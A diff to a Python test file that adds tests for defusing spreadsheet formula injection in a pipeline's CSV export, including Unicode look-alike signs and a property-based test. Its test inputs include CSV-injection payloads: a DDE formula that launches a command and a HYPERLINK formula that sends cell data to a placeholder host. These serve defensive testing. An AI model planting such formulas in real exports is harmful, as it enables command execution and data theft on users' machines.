@@ -3,16 +3,20 @@
 import csv
 import datetime as dt
 import json
+import unicodedata
 from decimal import Decimal
 from pathlib import Path
 from typing import Any
 
+import polars as pl
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from pipeline.errors import JobError, RunFolderError
-from pipeline.export import export
+from pipeline.export import _defused, export
 from pipeline.journal import Journal
 
 
@@ -113,12 +117,61 @@ def test_the_rows_are_counted(tmp_path: Path) -> None:
 # Spreadsheets
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"])
+SIGNS = sorted(
+    {char for char in map(chr, range(0x110000)) if unicodedata.normalize("NFKC", char)[:1] in tuple("=+-@")}
+    | {"−"}
+)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx", "=", *(f"{sign}1" for sign in SIGNS),
+     " =1", "\u00a0=1", "\u3000-1", "\u200b=1", "\ufeff=1", "\x00=1", "\x1b \u2066@a", "\n \n=1", "=cmd|' /C calc'!A0",
+     '=HYPERLINK("http://h/?"&A1,"x")', "-1+1;b", '+"a",b'],
+)  # fmt: skip
 def test_text_that_a_spreadsheet_would_run_is_defused_in_csv_alone(tmp_path: Path, text: str) -> None:
     run = run_folder(tmp_path, pa.table({"x": [text, f"a{text}"], text: ["y", None]}))
     assert cells(run) == [["x", f"'{text}"], [f"'{text}", "y"], [f"a{text}", ""]]
     assert cells(run, formulas=True) == [["x", text], [text, "y"], [f"a{text}", ""]]
     assert lines(run)[0] == {"x": text, text: "y"}
+
+
+@pytest.mark.parametrize(
+    "text", ["a=1", "'=1", '"=1"', "1-1", "(-1)", "", " ", "a\n=1", "a;=1", "中=1", "–1", "_=1", "!@"]
+)
+def test_text_that_no_spreadsheet_would_run_stays_as_it_is(tmp_path: Path, text: str) -> None:
+    assert cells(run_folder(tmp_path, pa.table({"x": [text]}))) == [["x"], [text]]
+
+
+def test_text_within_lists_and_structs_stands_behind_their_brackets(tmp_path: Path) -> None:
+    struct = pa.array([{"=a": ["=1"]}], pa.struct([("=a", pa.list_(pa.string()))]))
+    pairs = pa.array([[("=k", "=v")]], pa.map_(pa.string(), pa.string()))
+    run = run_folder(tmp_path, pa.table({"l": [["=1"]], "s": struct, "m": pairs}))
+    assert [cell[0] for cell in cells(run)[1]] == ["[", "{", "{"]
+
+
+def test_columns_that_become_alike_are_told_apart(tmp_path: Path) -> None:
+    run = run_folder(tmp_path, pa.table({"=a": [1], "'=a": [2], "''=a": [3], "b": [4]}))
+    assert cells(run)[0] == ["'" * 3 + "=a", "'=a", "''=a", "b"]
+    assert cells(run, formulas=True)[0] == ["=a", "'=a", "''=a", "b"]
+
+
+def test_a_column_whose_name_reads_like_a_pattern_is_one_column(tmp_path: Path) -> None:
+    inner = pa.struct([("*", pa.binary()), ("^.*$", pa.binary())])
+    values = pa.array([{"*": b"a", "^.*$": b"b"}], inner)
+    run = run_folder(tmp_path, pa.table({"*": ["a"], "^.*$": ["b"], "x": ["c"], "": [1], "s": values}))
+    assert lines(run) == [{"*": "a", "^.*$": "b", "x": "c", "": 1, "s": {"*": "YQ==", "^.*$": "Yg=="}}]
+    assert cells(run)[0] == ["*", "^.*$", "x", "", "s"]
+    assert cells(run)[1][:4] == ["a", "b", "c", "1"]
+
+
+@settings(max_examples=200, deadline=None)
+@given(text=st.text(max_size=12) | st.text(st.sampled_from("=+-@ \t\n\u200b'\"a,;＝"), max_size=6))
+def test_no_cell_begins_as_a_formula_whatever_is_seen_of_it(text: str) -> None:
+    shown = pl.select(_defused(pl.lit(text))).item()
+    visible = text.lstrip("".join(char for char in text if unicodedata.category(char)[0] in "ZC"))
+    runs = text.startswith(("\t", "\r", "\n")) or visible.startswith(tuple(SIGNS))
+    assert shown == ("'" + text if runs else text)
 
 
 def test_numbers_are_not_taken_for_formulas(tmp_path: Path) -> None:
